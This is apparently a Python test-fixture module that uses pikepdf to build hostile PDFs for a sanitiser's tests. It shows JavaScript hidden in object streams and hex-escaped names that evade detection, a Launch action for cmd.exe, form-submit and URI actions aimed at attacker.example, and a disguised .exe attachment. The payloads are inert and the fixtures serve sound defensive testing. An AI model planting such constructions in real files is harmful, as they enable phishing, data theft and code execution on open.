"""Hostile PDFs as an attacker builds them (issue 17): scripts hidden in compressed object streams,
open actions that launch, submit or open links, names written with hex escapes, embedded files,
XFA, rich media, encryption. Built with pikepdf (qpdf) or by hand, never downloaded."""

from __future__ import annotations

import io

import pikepdf

from .factories import pdf_bytes


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _with_catalog(**entries) -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    for key, value in entries.items():
        pdf.Root[f"/{key}"] = value
    return _save(pdf)


def js_in_object_stream() -> bytes:
    """The script sits in a compressed object stream: the raw bytes never spell /JavaScript."""
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    pdf.Root.OpenAction = action
    data = _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    assert b"/JavaScript" not in data and b"/JS" not in data
    return data


def launch_action() -> bytes:
    return _with_catalog(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def submit_form_action() -> bytes:
    return _with_catalog(
        OpenAction=pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/")
        )
    )


def uri_action() -> bytes:
    return _with_catalog(
        OpenAction=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://attacker.example/"))
    )


def hex_escaped_names() -> bytes:
    """`/J#61vaScript` and `/J#53` are /JavaScript and /JS once decoded."""
    data = pdf_bytes().replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"
    )
    assert b"/JavaScript" not in data and b"/JS " not in data
    return data


def additional_actions() -> bytes:
    return _with_catalog(
        AA=pikepdf.Dictionary(WC=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0])))
    )


def embedded_file() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    pdf.attachments["hoa-don.exe"] = pikepdf.AttachedFileSpec(
        pdf, b"MZ\x90\x00", mime_type="application/octet-stream"
    )
    return _save(pdf)


def xfa_form() -> bytes:
    return _with_catalog(
        AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp:xdp/>"))
    )


def rich_media() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    annotation = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia,
                                                      Rect=pikepdf.Array([0, 0, 10, 10])))  # fmt: skip
    pdf.pages[0].Annots = pikepdf.Array([annotation])
    return _save(pdf)


def encrypted() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    return _save(pdf, encryption=pikepdf.Encryption(owner="chu", user="", R=6))


def user_password() -> bytes:
    pdf = pikepdf.open(io.BytesIO(pdf_bytes()))
    return _save(pdf, encryption=pikepdf.Encryption(owner="chu", user="mat-khau", R=6))
